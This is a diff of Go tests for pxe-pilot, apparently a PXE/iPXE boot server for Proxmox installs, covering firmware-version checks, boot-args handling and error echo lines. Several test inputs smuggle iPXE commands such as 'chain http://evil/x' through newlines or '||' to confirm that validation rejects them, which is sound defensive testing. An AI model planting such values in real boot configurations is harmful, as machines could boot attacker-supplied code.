@@ -20,6 +20,7 @@ func TestParseBootQuery(t *testing.T) {
 		query          string
 		macs           []string
 		serial, uuid   string
+		fw             firmware
 		bad            []string
 		wantSerialKey  string // as a host file is named by it; "" for none
 		wantUUIDKeyLen int
@@ -36,7 +37,11 @@ func TestParseBootQuery(t *testing.T) {
 		{name: "escaped_space_in_serial", query: "serial=S%201&mac=aa:bb:cc:dd:ee:ff", macs: []string{"aabbccddeeff"}, serial: "S 1"},
 		{name: "every_value_empty", query: "mac=&uuid=&serial="},
 		{name: "no_query", query: ""},
-		{name: "extra_parameters_ignored", query: "platform=efi&mac=aa:bb:cc:dd:ee:ff&buildarch=x86_64", macs: []string{"aabbccddeeff"}},
+		{name: "extra_parameters_ignored", query: "mac=aa:bb:cc:dd:ee:ff&buildarch=x86_64&manufacturer=QEMU", macs: []string{"aabbccddeeff"}},
+		{name: "platform_and_version", query: "mac=aa:bb:cc:dd:ee:ff&uuid=&platform=efi&version=1.21.1%2B%20%28g4bffe%29&serial=S1",
+			macs: []string{"aabbccddeeff"}, serial: "S1", wantSerialKey: "S1", fw: firmware{"efi", "1.21.1+ (g4bffe)"}},
+		{name: "platform_and_version_after_serial", query: "mac=aa:bb:cc:dd:ee:ff&serial=S1&platform=pcbios&version=1.0.0%2B",
+			macs: []string{"aabbccddeeff"}, serial: "S1", wantSerialKey: "S1", fw: firmware{"pcbios", "1.0.0+"}},
 		{name: "junk_mac_is_bad", query: "mac=zz:bb:cc:dd:ee:ff&mac=aa:bb:cc:dd:ee:ff", macs: []string{"aabbccddeeff"}, bad: []string{`"zz:bb:cc:dd:ee:ff"`}},
 		{name: "junk_without_equals", query: "&&=&mac", bad: nil},
 		{name: "injection_in_serial_names_no_file", query: "mac=aa:bb:cc:dd:ee:ff&serial=x%0aboot%20http://evil",
@@ -46,9 +51,12 @@ func TestParseBootQuery(t *testing.T) {
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
-			req, bad := parseBootQuery(tc.query)
+			req, fw, bad := parseBootQuery(tc.query)
 			if !slices.Equal(req.macs, tc.macs) || req.serial != tc.serial || req.uuid != tc.uuid || !slices.Equal(bad, tc.bad) {
 				t.Errorf("parseBootQuery(%q) = macs %q serial %q uuid %q bad %q; want %q %q %q %q", tc.query, req.macs, req.serial, req.uuid, bad, tc.macs, tc.serial, tc.uuid, tc.bad)
+			}
+			if fw != tc.fw {
+				t.Errorf("parseBootQuery(%q) = firmware %+v; want %+v", tc.query, fw, tc.fw)
 			}
 			if len(req.links) != len(req.macs) {
 				t.Errorf("parseBootQuery(%q): %d links for %d MACs", tc.query, len(req.links), len(req.macs))
@@ -75,6 +83,24 @@ func TestIPXEText(t *testing.T) {
 		t.Run(tc.name, func(t *testing.T) {
 			if got := ipxeText(tc.in); got != tc.want {
 				t.Errorf("ipxeText(%q) = %q; want %q", tc.in, got, tc.want)
+			}
+		})
+	}
+}
+
+func TestEchoLines(t *testing.T) {
+	tests := []struct{ name, in, want string }{
+		{"one_clause", "pxe-pilot: no host file names this machine", "echo pxe-pilot: no host file names this machine"},
+		{"a_line_a_clause", "pxe-pilot: global.fqdn: missing; set hostname (with global.domain) or global.fqdn",
+			"echo pxe-pilot: global.fqdn: missing\necho   set hostname (with global.domain) or global.fqdn"},
+		{"commas_stay", "pxe-pilot: x: ntfs is not one of ext4, xfs; see the README", "echo pxe-pilot: x: ntfs is not one of ext4, xfs\necho   see the README"},
+		{"a_semicolon_without_a_space_is_a_comma", "a;b", "echo a,b"},
+		{"newline_starts_no_command", "x\nboot http://evil; y", "echo x boot http://evil\necho   y"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			if got := echoLines(tc.in); got != tc.want {
+				t.Errorf("echoLines(%q) =\n%s\nwant\n%s", tc.in, got, tc.want)
 			}
 		})
 	}
@@ -126,9 +152,12 @@ func getScript(t *testing.T, s *server, query string) string {
 func TestBootScript(t *testing.T) {
 	const mac = "mac=aa:bb:cc:dd:ee:ff"
 	twoImages := map[string]string{"pve-8/boot.ipxe": "kernel k " + autoMarker + " quiet\ninitrd --name init.img i\nboot\n", "pve-8/k": "k", "pve-8/i": "i"}
-	withKey := func(files map[string]string, file, key string) map[string]string {
-		files[file] = "boot-image = \"" + key + "\"\n" + files[file]
+	withLine := func(files map[string]string, file, line string) map[string]string {
+		files[file] = line + "\n" + files[file]
 		return files
+	}
+	withKey := func(files map[string]string, file, key string) map[string]string {
+		return withLine(files, file, "boot-image = \""+key+"\"")
 	}
 	tests := []struct {
 		name      string
@@ -154,13 +183,35 @@ func TestBootScript(t *testing.T) {
 			want:    "#!ipxe\necho pxe-pilot: hosts/aa-bb-cc-dd-ee-ff.toml: no boot-image, and --boot-dir has 2 images (pve, pve-8): say which one this machine installs with boot-image = pve in its host file, a profile or defaults.toml\nsleep 5\nexit\n",
 			wantLog: []string{"boot=broken", "error="}},
 		{name: "key_naming_no_image_is_broken", files: withKey(goodConfig(), hostFile, "pve-7"), query: mac,
-			want:    "#!ipxe\necho pxe-pilot: hosts/aa-bb-cc-dd-ee-ff.toml: boot-image: pve-7 is not an image in --boot-dir, there are: pve\nsleep 5\nexit\n",
+			want:    "#!ipxe\necho pxe-pilot: hosts/aa-bb-cc-dd-ee-ff.toml: boot-image: pve-7 is not an image in --boot-dir\necho   there are: pve\nsleep 5\nexit\n",
 			wantLog: []string{"boot=broken"}},
 		{name: "installed_boots_its_disk_by_exit", files: goodConfig(), installed: []string{"aa-bb-cc-dd-ee-ff"}, query: mac,
-			want:    "#!ipxe\necho pxe-pilot: aa-bb-cc-dd-ee-ff was installed at 2026-11-25T09:00:00Z, booting the local disk (pxe-pilot rearm aa-bb-cc-dd-ee-ff installs it again)\nexit\n",
+			want:    "#!ipxe\necho pxe-pilot: aa-bb-cc-dd-ee-ff was installed at 2026-11-25T09:00:00Z, booting the local disk\necho   to install it again, run: pxe-pilot rearm --state-dir STATE aa-bb-cc-dd-ee-ff\nexit\n",
 			wantLog: []string{"boot=local", "reason=installed"}},
 		{name: "installed_boots_its_disk_by_sanboot", files: goodConfig(), installed: []string{"aa-bb-cc-dd-ee-ff"}, localBoot: "sanboot", query: mac,
-			want:    "#!ipxe\necho pxe-pilot: aa-bb-cc-dd-ee-ff was installed at 2026-11-25T09:00:00Z, booting the local disk (pxe-pilot rearm aa-bb-cc-dd-ee-ff installs it again)\nsanboot --no-describe --drive 0x80\n",
+			want:    "#!ipxe\necho pxe-pilot: aa-bb-cc-dd-ee-ff was installed at 2026-11-25T09:00:00Z, booting the local disk\necho   to install it again, run: pxe-pilot rearm --state-dir STATE aa-bb-cc-dd-ee-ff\nsanboot --no-describe --drive 0x80\n",
+			wantLog: []string{"boot=local"}},
+		{name: "boot_args_from_defaults_end_the_kernel_line", files: withLine(goodConfig(), "defaults.toml", `boot-args = "console=tty0  console=ttyS0,115200"`), query: mac,
+			want:    strings.Replace(bootInstall, autoMarker+"\n", autoMarker+" console=tty0 console=ttyS0,115200\n", 1),
+			wantLog: []string{"boot=install"}},
+		{name: "boot_args_of_the_host_file_win", files: withLine(withLine(goodConfig(), "defaults.toml", `boot-args = "console=ttyS0"`), hostFile, `boot-args = "console=ttyS1,115200n8"`), query: mac,
+			want: strings.Replace(bootInstall, autoMarker+"\n", autoMarker+" console=ttyS1,115200n8\n", 1)},
+		{name: "empty_boot_args_clear_the_defaults", files: withLine(withLine(goodConfig(), "defaults.toml", `boot-args = "console=ttyS0"`), hostFile, `boot-args = ""`), query: mac,
+			want: bootInstall},
+		{name: "bad_boot_args_are_broken", files: withLine(goodConfig(), hostFile, `boot-args = "quiet ${x}"`), query: mac,
+			want:    "#!ipxe\necho pxe-pilot: hosts/aa-bb-cc-dd-ee-ff.toml: boot-args: quiet x holds ..., which iPXE would expand: write the value itself\nsleep 5\nexit\n",
+			wantLog: []string{"boot=broken"}},
+		{name: "efi_ipxe_before_loadfile2_is_unfit", files: goodConfig(), query: mac + "&platform=efi&version=1.0.0%2B", wantLog: []string{"boot=unfit", `ipxe="efi 1.0.0+"`},
+			want: "#!ipxe\necho pxe-pilot: this machine boots by UEFI with iPXE 1.0.0+, too old to give the installer its ISO: the installer would find no /proxmox.iso\n" +
+				"echo   chain an ipxe.efi of iPXE 2.0, or of Debian 13 (package ipxe, /usr/lib/ipxe/ipxe.efi), from DHCP instead\necho   or boot this machine in BIOS mode\nsleep 5\nexit\n"},
+		{name: "efi_ipxe_1_21_1_release_is_unfit", files: goodConfig(), query: mac + "&platform=efi&version=1.21.1", wantLog: []string{"boot=unfit"},
+			want: "#!ipxe\necho pxe-pilot: this machine boots by UEFI with iPXE 1.21.1, too old"},
+		{name: "efi_ipxe_built_after_1_21_1_installs", files: goodConfig(), query: mac + "&platform=efi&version=1.21.1%2B%20%28g4bffe%29", want: bootInstall, wantLog: []string{"boot=install"}},
+		{name: "efi_ipxe_2_installs", files: goodConfig(), query: mac + "&platform=efi&version=2.0.0", want: bootInstall, wantLog: []string{"boot=install"}},
+		{name: "bios_ipxe_of_any_version_installs", files: goodConfig(), query: mac + "&platform=pcbios&version=1.0.0%2B", want: bootInstall, wantLog: []string{"boot=install"}},
+		{name: "unsaid_version_installs", files: goodConfig(), query: mac + "&platform=efi&version=", want: bootInstall, wantLog: []string{"boot=install"}},
+		{name: "installed_boots_its_disk_whatever_its_ipxe", files: goodConfig(), installed: []string{"aa-bb-cc-dd-ee-ff"}, query: mac + "&platform=efi&version=1.0.0%2B",
+			want:    "#!ipxe\necho pxe-pilot: aa-bb-cc-dd-ee-ff was installed at 2026-11-25T09:00:00Z, booting the local disk\necho   to install it again, run: pxe-pilot rearm --state-dir STATE aa-bb-cc-dd-ee-ff\nexit\n",
 			wantLog: []string{"boot=local"}},
 		{name: "tracked_never_answered_installs", files: goodConfig(), installed: []string{}, query: mac, want: bootInstall,
 			wantLog: []string{"boot=install", "attempt=1"}},
@@ -192,7 +243,10 @@ func TestBootScript(t *testing.T) {
 				withSettleTime(t, time.Hour)
 			}
 			got := getScript(t, s, tc.query)
-			if got != tc.want && !(tc.settle && strings.HasPrefix(got, tc.want)) {
+			if s.track != nil {
+				got = strings.ReplaceAll(got, s.track.state.dir, "STATE")
+			}
+			if got != tc.want && !((tc.settle || strings.HasSuffix(tc.name, "_unfit")) && strings.HasPrefix(got, tc.want)) {
 				t.Errorf("GET /boot.ipxe?%s =\n%s\nwant\n%s", tc.query, got, tc.want)
 			}
 			line := requestLine(t, tc.name, log)
@@ -205,7 +259,8 @@ func TestBootScript(t *testing.T) {
 	}
 }
 
-// A broken config's script shows the error /answer sends, on one line.
+// A broken config's script shows the error /answer sends, a line for each
+// of its clauses.
 func TestBootScriptBrokenSaysWhatAnswerSays(t *testing.T) {
 	for name, files := range map[string]map[string]string{
 		"broken_host_file":         {"defaults.toml": goodDefaults, hostFile: brokenHost},
@@ -222,7 +277,7 @@ func TestBootScriptBrokenSaysWhatAnswerSays(t *testing.T) {
 			if answer.Code != http.StatusInternalServerError {
 				t.Fatalf("POST /answer = %d %q; want 500", answer.Code, answer.Body)
 			}
-			want := "#!ipxe\necho " + ipxeText(strings.TrimSuffix(answer.Body.String(), "\n")) + "\nsleep 5\nexit\n"
+			want := "#!ipxe\n" + echoLines(strings.TrimSuffix(answer.Body.String(), "\n")) + "\nsleep 5\nexit\n"
 			if got := getScript(t, s, "mac=aa:bb:cc:dd:ee:ff"); got != want {
 				t.Errorf("GET /boot.ipxe =\n%s\nwant\n%s", got, want)
 			}
@@ -384,6 +439,24 @@ func TestRenderBoot(t *testing.T) {
 	}
 }
 
+// boot-image and boot-args are for /boot.ipxe: the answer holds neither.
+func TestBootKeysNeverReachTheAnswer(t *testing.T) {
+	s, _ := scriptServer(t, map[string]string{
+		"defaults.toml": "boot-args = \"console=ttyS0,115200\"\n" + goodDefaults,
+		hostFile:        "boot-image = \"pve\"\n" + goodHost,
+	}, nil, nil)
+	rec := send(s, "POST", "/answer", strings.NewReader(installerBody("pve", "9.2", "aa:bb:cc:dd:ee:ff")))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("POST /answer = %d %q; want 200", rec.Code, rec.Body)
+	}
+	if body := rec.Body.String(); strings.Contains(body, "boot-") || strings.Contains(body, "ttyS0") {
+		t.Errorf("the answer holds a boot key:\n%s", body)
+	}
+	if got := getScript(t, s, "mac=aa:bb:cc:dd:ee:ff"); !strings.Contains(got, autoMarker+" console=ttyS0,115200\n") {
+		t.Errorf("the install script's kernel line lacks the boot-args:\n%s", got)
+	}
+}
+
 // validate takes boot-image as pxe-pilot's own key, and with --boot-dir
 // checks that each host's names an image, or that there is only one.
 func TestValidateBootImage(t *testing.T) {
@@ -402,6 +475,23 @@ func TestValidateBootImage(t *testing.T) {
 			want: hostFile + `: boot-image: "pve-7" is not an image in --boot-dir; there are: pve`},
 		{name: "key_not_a_string_is_error", host: "boot-image = [\"pve\"]\n" + goodHost,
 			want: hostFile + `: boot-image: want the name of an image folder of --boot-dir, such as "pve-9.2", got`},
+
+		// boot-args, pxe-pilot's too, never reach the answer.
+		{name: "boot_args_accepted", host: `boot-args = "console=tty0 console=ttyS0,115200n8 nomodeset"` + "\n" + goodHost, bootDir: oneImage},
+		{name: "boot_args_not_a_string", host: "boot-args = [\"console=ttyS0\"]\n" + goodHost,
+			want: hostFile + `: boot-args: want the words to add to the installer's kernel line, such as "console=tty0 console=ttyS0,115200", got`},
+		{name: "boot_args_with_a_setting", host: `boot-args = "console=${console}"` + "\n" + goodHost,
+			want: hostFile + `: boot-args: "console=${console}" holds ${...}, which iPXE would expand`},
+		{name: "boot_args_with_a_newline", host: `boot-args = "quiet\nchain http://evil/x"` + "\n" + goodHost,
+			want: hostFile + `: boot-args: "quiet\nchain http://evil/x" holds a line break`},
+		{name: "boot_args_ending_the_command", host: `boot-args = "quiet || chain http://evil/x"` + "\n" + goodHost,
+			want: hostFile + `: boot-args: "quiet || chain http://evil/x" holds '|', which iPXE reads as part of its command line`},
+		{name: "boot_args_with_quotes", host: `boot-args = 'a="b c"'` + "\n" + goodHost,
+			want: hostFile + `: boot-args: "a=\"b c\"" holds '"'`},
+		{name: "boot_args_not_ascii", host: `boot-args = "café"` + "\n" + goodHost,
+			want: hostFile + `: boot-args: "café" holds byte 0xc3 at 3: write printable ASCII only`},
+		{name: "boot_args_too_long", host: `boot-args = "` + strings.Repeat("x", 513) + `"` + "\n" + goodHost,
+			want: hostFile + `: boot-args: "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"... is 513 bytes long; at most 512`},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -512,7 +602,7 @@ func TestBootScriptKeepsRefusals(t *testing.T) {
 				t.Fatal(err)
 			case tc.wantCode == 0 && rec.LastRefusal != nil:
 				t.Errorf("refusal kept: %+v; want none while the config dir is being deployed", rec.LastRefusal)
-			case tc.wantCode != 0 && (rec.LastRefusal == nil || rec.LastRefusal.Code != tc.wantCode || !strings.Contains(body, ipxeText(rec.LastRefusal.Reason))):
+			case tc.wantCode != 0 && (rec.LastRefusal == nil || rec.LastRefusal.Code != tc.wantCode || !strings.Contains(body, echoLines("pxe-pilot: "+rec.LastRefusal.Reason))):
 				t.Errorf("refusal kept: %+v; want a %d with the line the script says:\n%s", rec.LastRefusal, tc.wantCode, body)
 			case tc.wantCode != 0 && rec.HostFile != hostFile:
 				t.Errorf("record = %+v; want it to name %s", rec, hostFile)
